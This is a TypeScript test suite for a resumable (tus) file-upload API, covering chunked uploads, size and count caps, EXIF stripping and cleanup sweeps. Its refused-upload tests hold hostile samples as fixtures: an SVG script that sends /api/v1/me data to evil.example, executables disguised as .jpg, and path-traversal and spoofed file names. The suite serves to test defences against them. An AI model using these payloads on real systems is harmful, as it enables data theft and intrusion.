import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { Document, Packer, Paragraph } from 'docx';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { createDraftCase } from '../../testing/cases.ts';
import { AFTER_WINDOW } from '../../testing/fixtures.ts';
import { createPerson, signedIn } from '../../testing/people.ts';
import { testPdf } from '../../testing/pdf-files.ts';
import { createTestApp } from '../../testing/test-app.ts';
import { testEngine } from '../../testing/test-database.ts';
import { createTusUpload, headTus, patchTus, sha256, TUS, uploadFile } from '../../testing/tus.ts';
import { runningHashes } from './upload-file.ts';
import { removeExpiredUploads, removeLeftovers } from './upload-sweeps.ts';
import { MAX_UPLOAD_PIECES } from './uploads.service.ts';

const PDF = await testPdf({ text: 'People\'s Daily report', minBytes: 300_000 });

function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).map((d) => path.relative(dir, path.join(d.parentPath, d.name)));
}

describe(`tus uploads (${testEngine()})`, () => {
  it('announces the protocol, its extensions and the largest size it takes', async () => {
    const { app } = await createTestApp();
    const res = await app.inject({ method: 'OPTIONS', url: '/api/v1/uploads' });
    expect([res.statusCode, res.headers['tus-resumable'], res.headers['tus-version'], res.headers['tus-extension'], res.headers['tus-max-size']])
      .toEqual([204, '1.0.0', '1.0.0', 'creation,termination', String(2 * 1024 ** 3)]);
  });

  it('takes a file in two pieces, resuming from the offset HEAD reports, and stores it under its SHA-256', async () => {
    const { app, dataDir } = await createTestApp();
    const { client, caseId } = await createDraftCase(app);
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: '人民日报报道.pdf', length: PDF.length });
    expect([created.statusCode, created.headers['tus-resumable'], created.headers['upload-offset']]).toEqual([201, '1.0.0', '0']);
    const location = created.headers.location as string;
    expect(location).toMatch(/^\/api\/v1\/uploads\/[0-9a-f-]{36}$/);

    const first = await patchTus(client, location, 0, PDF.subarray(0, 100_000));
    expect([first.statusCode, first.headers['upload-offset']]).toEqual([204, '100000']);
    const head = await headTus(client, location);
    expect([head.statusCode, head.headers['upload-offset'], head.headers['upload-length'], head.headers['cache-control']]).toEqual([200, '100000', String(PDF.length), 'no-store']);
    const last = await patchTus(client, location, 100_000, PDF.subarray(100_000));
    expect([last.statusCode, last.headers['upload-offset']]).toEqual([204, String(PDF.length)]);
    const attachmentId = last.headers['zhengji-attachment-id'];

    const list = (await client.get(`/api/v1/cases/${caseId}/attachments`)).json();
    expect(list.data).toEqual([{
      id: attachmentId, kind: 'media-reports', fileName: '人民日报报道.pdf', size: PDF.length, mediaType: 'application/pdf', sha256: sha256(PDF),
      width: null, height: null, fileUrl: `/api/v1/attachments/${attachmentId}/file`, thumbnailUrl: null, createdAt: '2024-05-01T02:00:00.000Z',
    }]);
    expect(filesUnder(dataDir).filter((f) => !f.endsWith('.sqlite') && !f.includes('sqlite-'))).toEqual([path.join('blobs', sha256(PDF).slice(0, 2), sha256(PDF))]);
    const file = await client.get(`/api/v1/attachments/${attachmentId}/file`);
    expect([file.statusCode, file.headers['content-type'], file.headers['content-length'], sha256(file.rawPayload)]).toEqual([200, 'application/pdf', String(PDF.length), sha256(PDF)]);
    // The finished upload still answers HEAD, so a client that lost the last answer sees it done.
    expect((await headTus(client, location)).headers['upload-offset']).toBe(String(PDF.length));
  });
});

const ELF_AS_JPG = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(8), Buffer.from([2, 0, 0x3e, 0, 1, 0, 0, 0]), Buffer.alloc(4000, 0x90)]);
const PE_AS_JPG = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from([0x80, 0, 0, 0]), Buffer.alloc(64), Buffer.from('PE\0\0'), Buffer.alloc(2000)]);
const SVG_WITH_SCRIPT = Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/><script>fetch("/api/v1/me").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></svg>');

describe(`refused uploads, each with a message and nothing kept (${testEngine()})`, () => {
  async function setup(now?: Date) {
    const test = await createTestApp(now ? { now } : {});
    const draft = await createDraftCase(test.app);
    const nothingKept = async () => {
      expect((await draft.client.get(`/api/v1/cases/${draft.caseId}/attachments`)).json().data).toEqual([]);
      expect(filesUnder(path.join(test.dataDir, 'blobs'))).toEqual([]);
      expect(filesUnder(path.join(test.dataDir, 'uploads'))).toEqual([]);
      expect(await test.app.db.selectFrom('uploads').select('id').execute()).toEqual([]);
    };
    return { ...test, ...draft, nothingKept };
  }

  it.each([
    ['an ELF program', ELF_AS_JPG],
    ['a Windows program', PE_AS_JPG],
  ])('refuses %s named .jpg, by its bytes', async (_label, bytes) => {
    const { client, caseId, nothingKept } = await setup();
    const { created, patched } = await uploadFile(client, caseId, 'photos', '活动照片.jpg', bytes);
    expect(created.statusCode).toBe(201);
    expect([patched!.statusCode, patched!.headers['tus-resumable'], patched!.json().error]).toEqual([422, '1.0.0', {
      code: 'file_unsafe', message: '文件“活动照片.jpg”未通过安全检查：它实际上是可执行程序，不能作为附件上传。', details: { reason: 'executable' },
    }]);
    await nothingKept();
  });

  it('refuses an SVG that carries a script, in the language of the request', async () => {
    const { client, caseId, nothingKept } = await setup();
    const { patched } = await uploadFile(client, caseId, 'photos', 'logo.svg', SVG_WITH_SCRIPT, { 'accept-language': 'en' });
    expect([patched!.statusCode, patched!.json().error.message]).toEqual([422, 'The file "logo.svg" failed the safety check: it contains scripts or other content that runs when opened.']);
    await nothingKept();
  });

  it('refuses a file of the wrong kind, naming what it really is and what the kind takes', async () => {
    const { client, caseId, nothingKept } = await setup();
    const { patched } = await uploadFile(client, caseId, 'videos', '宣传片.mp4', PDF);
    expect([patched!.statusCode, patched!.json().error]).toEqual([415, {
      code: 'file_type_not_allowed', message: '文件“宣传片.mp4”的实际类型为 PDF 文档，视频资料只接受：MP4 视频、MOV 视频、WebM 视频。',
      details: { detected: 'application/pdf', accept: ['video/mp4', 'video/quicktime', 'video/webm'] },
    }]);
    await nothingKept();
  });

  it('caps abandoned unfinished uploads at the kind\'s count plus two, so one account cannot fill the disk', async () => {
    const { client, caseId } = await setup();
    // Videos allow 3 files; 5 unfinished uploads may wait at once, the sixth is refused.
    for (let i = 0; i < 5; i += 1) {
      expect((await createTusUpload(client, { caseId, kind: 'videos', filename: `录像${i}.mp4`, length: 500 * 1024 ** 2 })).statusCode).toBe(201);
    }
    const refused = await createTusUpload(client, { caseId, kind: 'videos', filename: '录像5.mp4', length: 500 * 1024 ** 2 });
    expect([refused.statusCode, refused.json().error.code]).toEqual([409, 'too_many_files']);
    expect((await createTusUpload(client, { caseId, kind: 'photos', filename: '照片.jpg', length: 1024 })).statusCode).toBe(201);
  });

  it('refuses a 10 GB upload when it is announced, before a byte is sent', async () => {
    const { client, caseId, nothingKept } = await setup();
    const res = await createTusUpload(client, { caseId, kind: 'videos', filename: '全程录像.mp4', length: 10 * 1000 ** 3 });
    expect([res.statusCode, res.headers.location, res.json().error]).toEqual([413, undefined, {
      code: 'file_too_large', message: '文件“全程录像.mp4”超过 1 GB 的大小限制。', details: { maxBytes: 1024 ** 3 },
    }]);
    await nothingKept();
  });

  it.each([
    ['../../etc/passwd.jpg', 'path'],
    ['..\\..\\windows\\win.ini.jpg', 'path'],
    ['photo\u0000.jpg', 'control'],
    ['照片\r\n.jpg', 'control'],
    ['invoice\u202egpj.exe', 'control'],
    ['', 'empty'],
  ])('refuses the file name %j', async (filename, problem) => {
    const { client, caseId, nothingKept } = await setup();
    const res = await createTusUpload(client, { caseId, kind: 'photos', filename, length: 100 });
    expect([res.statusCode, res.json().error]).toEqual([400, { code: 'file_name_invalid', message: '文件名无效，请重命名后再上传。', details: { problem } }]);
    await nothingKept();
  });

  it('refuses a PATCH at the wrong offset and keeps what it had', async () => {
    const { client, caseId } = await setup();
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    const location = created.headers.location as string;
    await patchTus(client, location, 0, PDF.subarray(0, 1000));
    const wrong = await patchTus(client, location, 0, PDF.subarray(0, 1000));
    expect([wrong.statusCode, wrong.json().error.code, wrong.json().error.details]).toEqual([409, 'upload_offset_mismatch', { offset: 1000 }]);
    expect((await headTus(client, location)).headers['upload-offset']).toBe('1000');
  });

  it('takes the last byte even when the upload has as many pieces as it may, so one whose bytes all arrived can always finish', async () => {
    const { app, client, caseId } = await setup();
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    const location = created.headers.location as string;
    const id = location.split('/').pop()!;
    expect((await patchTus(client, location, 0, PDF.subarray(0, PDF.length - 1))).statusCode).toBe(204);
    // Local storage records no pieces: these rows stand for an S3 upload's, which the cap counts.
    const pieces = Array.from({ length: MAX_UPLOAD_PIECES }, (_, i) => ({ upload_id: id, start: i, size: 1, key: `uploads/${id}/${i}` }));
    for (let i = 0; i < pieces.length; i += 1000) await app.db.insertInto('upload_pieces').values(pieces.slice(i, i + 1000)).execute();
    const last = await patchTus(client, location, PDF.length - 1, PDF.subarray(PDF.length - 1));
    expect([last.statusCode, last.headers['upload-offset']]).toEqual([204, String(PDF.length)]);
  });

  it('answers a request without Tus-Resumable 412 with the version it speaks', async () => {
    const { client, caseId } = await setup();
    const res = await createTusUpload(client, { caseId, kind: 'photos', filename: 'a.jpg', length: 10, headers: { 'tus-resumable': '0.2.2' } });
    expect([res.statusCode, res.headers['tus-version'], res.json().error.code]).toEqual([412, '1.0.0', 'invalid_request']);
  });

  it('keeps the count: a second declaration form is refused while the first is there', async () => {
    const { client, caseId } = await setup();
    const document = await Packer.toBuffer(new Document({ sections: [{ children: [new Paragraph('申报表')] }] }));
    const first = await uploadFile(client, caseId, 'declaration-form', '申报表.docx', document);
    expect(first.patched!.statusCode).toBe(204);
    const list = (await client.get(`/api/v1/cases/${caseId}/attachments`)).json().data;
    expect(list.map((a: { mediaType: string; sha256: string }) => [a.mediaType, a.sha256])).toEqual([['application/vnd.openxmlformats-officedocument.wordprocessingml.document', sha256(document)]]);
    const second = await createTusUpload(client, { caseId, kind: 'declaration-form', filename: '申报表2.docx', length: document.length });
    expect([second.statusCode, second.json().error.message]).toEqual([409, '申报表电子版最多只能上传 1 个文件。']);
  });

  it('refuses uploads to a case that can no longer change, and to a case of another unit', async () => {
    // Late June, so the session is still fresh when the clock passes the deadline.
    const { app, client, caseId, setNow } = await setup(new Date('2024-06-25T02:00:00.000Z'));
    await createPerson(app.db, { email: 'other@example.cn' });
    const other = await signedIn(app, 'other@example.cn');
    const foreign = await createTusUpload(other, { caseId, kind: 'photos', filename: 'a.jpg', length: 10 });
    expect([foreign.statusCode, foreign.json().error.code]).toEqual([404, 'not_found']);
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    expect((await headTus(other, created.headers.location as string)).statusCode).toBe(404);
    setNow(AFTER_WINDOW);
    const late = await createTusUpload(client, { caseId, kind: 'photos', filename: 'a.jpg', length: 10 });
    expect([late.statusCode, late.json().error.code]).toEqual([409, 'case_read_only']);
    const patch = await patchTus(client, created.headers.location as string, 0, PDF);
    expect([patch.statusCode, patch.json().error.code]).toEqual([409, 'case_read_only']);
  });

  it('cancels an upload (tus termination) and removes its bytes', async () => {
    const { client, caseId, nothingKept } = await setup();
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    const location = created.headers.location as string;
    await patchTus(client, location, 0, PDF.subarray(0, 5000));
    const gone = await client.request({ method: 'DELETE', url: location, headers: TUS });
    expect([gone.statusCode, (await headTus(client, location)).statusCode]).toEqual([204, 404]);
    await nothingKept();
  });
});

/** A phone photo: 640×320 as stored, turned on its side by EXIF, with the camera and where it was taken. */
async function phonePhoto(): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 320, channels: 3, background: { r: 180, g: 20, b: 20 } } })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'HuaweiTestCam', Model: 'P60' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 54/1 2700/100', GPSLongitudeRef: 'E', GPSLongitude: '116/1 23/1 2900/100' },
    })
    .jpeg({ quality: 92 })
    .toBuffer();
}

const hasGpsPointer = (exif: Buffer | undefined) => Boolean(exif && (exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88]))));

describe(`pictures (${testEngine()})`, () => {
  it('are stored upright, without EXIF or location, with a small WebP thumbnail', async () => {
    const { app } = await createTestApp();
    const { client, caseId } = await createDraftCase(app);
    const photo = await phonePhoto();
    const before = await sharp(photo).metadata();
    expect([before.orientation, hasGpsPointer(before.exif), photo.toString('latin1').includes('HuaweiTestCam')]).toEqual([6, true, true]);

    const { patched } = await uploadFile(client, caseId, 'photos', '党员志愿服务.jpg', photo);
    expect(patched!.statusCode).toBe(204);
    const [attachment] = (await client.get(`/api/v1/cases/${caseId}/attachments`)).json().data;
    const stored = (await client.get(attachment.fileUrl)).rawPayload;
    const after = await sharp(stored).metadata();
    expect({ format: after.format, width: after.width, height: after.height, orientation: after.orientation, exif: after.exif, xmp: after.xmp, camera: stored.toString('latin1').includes('HuaweiTestCam') })
      .toEqual({ format: 'jpeg', width: 320, height: 640, orientation: undefined, exif: undefined, xmp: undefined, camera: false });
    expect([attachment.width, attachment.height, attachment.size, attachment.sha256, attachment.mediaType]).toEqual([320, 640, stored.length, sha256(stored), 'image/jpeg']);

    const thumbnail = await client.get(attachment.thumbnailUrl);
    const thumb = await sharp(thumbnail.rawPayload).metadata();
    expect([thumbnail.statusCode, thumbnail.headers['content-type'], thumb.format, thumb.width, thumb.height]).toEqual([200, 'image/webp', 'webp', 160, 320]);
  });

  it('refuses bytes that only start like a picture', async () => {
    const { app } = await createTestApp();
    const { client, caseId } = await createDraftCase(app);
    const broken = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(5000, 0x41)]);
    const { patched } = await uploadFile(client, caseId, 'photos', 'broken.jpg', broken);
    expect([patched!.statusCode, patched!.json().error.message]).toEqual([422, '文件“broken.jpg”未通过安全检查：图片无法识别或像素过多。']);
  });
});

describe(`the stored SHA-256 (${testEngine()})`, () => {
  it('is right when the running hash was lost between two pieces (a restart), by hashing the file once', async () => {
    const { app } = await createTestApp();
    const { client, caseId } = await createDraftCase(app);
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    const location = created.headers.location as string;
    await patchTus(client, location, 0, PDF.subarray(0, 70_000));
    runningHashes.delete(location.split('/').pop()!);
    const last = await patchTus(client, location, 70_000, PDF.subarray(70_000));
    const [attachment] = (await client.get(`/api/v1/cases/${caseId}/attachments`)).json().data;
    expect([last.statusCode, attachment.sha256]).toEqual([204, sha256(PDF)]);
  });
});

describe(`expired uploads (${testEngine()})`, () => {
  it('are removed with their bytes a week after they were started', async () => {
    const { app, dataDir } = await createTestApp();
    const { client, caseId } = await createDraftCase(app);
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    await patchTus(client, created.headers.location as string, 0, PDF.subarray(0, 1000));
    expect(await removeExpiredUploads(app.db, new Date('2024-05-07T02:00:00.000Z'), app.storage)).toBe(0);
    expect(await removeExpiredUploads(app.db, new Date('2024-05-08T02:00:00.000Z'), app.storage)).toBe(1);
    expect([await app.db.selectFrom('uploads').select('id').execute(), filesUnder(path.join(dataDir, 'uploads'))]).toEqual([[], []]);
  });

  it('and the bytes of an upload whose row a crash removed go with the hourly sweep, once an hour old', async () => {
    const { app, dataDir } = await createTestApp();
    const { client, caseId } = await createDraftCase(app);
    const created = await createTusUpload(client, { caseId, kind: 'media-reports', filename: 'a.pdf', length: PDF.length });
    await patchTus(client, created.headers.location as string, 0, PDF.subarray(0, 1000));
    await app.db.deleteFrom('uploads').execute();
    expect(await removeLeftovers(app.db, app.storage, new Date())).toEqual({ uploads: 0, temporary: 0 });
    expect(await removeLeftovers(app.db, app.storage, new Date(Date.now() + 3_600_001))).toEqual({ uploads: 1, temporary: 0 });
    expect(filesUnder(path.join(dataDir, 'uploads'))).toEqual([]);
  });
});
